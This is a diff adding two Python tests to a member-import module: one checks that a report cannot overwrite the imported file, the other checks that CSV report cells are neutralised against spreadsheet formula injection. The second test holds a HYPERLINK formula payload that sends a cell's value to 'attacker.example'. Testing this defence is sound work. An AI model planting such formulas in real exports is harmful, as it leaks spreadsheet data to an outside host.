@@ -237,3 +237,23 @@ def test_an_address_a_letter_cannot_carry_is_rejected_with_its_line(farm: Organi
     assert (summary.rejected, summary.written) == (1, False) and not MemberRecord.objects.exists()
     assert report_rows(report)[1] == [
         "8", "12000002", "L'adresse a 7 lignes ; un courrier en prend au plus 6 en plus du nom."]
+
+
+def test_a_report_named_like_the_imported_file_is_refused_and_the_file_kept(pension: Organisation,
+                                                                             tmp_path: Path) -> None:
+    path = write(tmp_path, PENSION_HEADER + MARIE)
+    before = path.read_bytes()
+    with translation.override("fr"), pytest.raises(CsvFormatError, match="rapport"):
+        import_members(pension, path, report=tmp_path / "." / "members.csv")
+    assert path.read_bytes() == before and not MemberRecord.objects.exists()
+
+
+def test_report_cells_that_a_spreadsheet_would_evaluate_are_made_text(pension: Organisation, tmp_path: Path) -> None:
+    """The report quotes the registry's cells, and operators open it in a spreadsheet (CSV injection)."""
+    report = tmp_path / "rejected.csv"
+    cells = ['=HYPERLINK("http://attacker.example/?"&B1,"Click")', "+33 1", "-12", "@SUM(A1)", "12"]
+    text = "member_number,last_name\n" + "".join('"' + c.replace('"', '""') + '",X\n' for c in cells)
+    import_members(pension, write(tmp_path, text), report=report)
+    rows = report_rows(report)[1:]
+    assert [number for _, number, _ in rows] == ["'" + c for c in cells[:4]] + ["12"]
+    assert not any(reason.startswith(("=", "+", "-", "@")) for _, _, reason in rows)
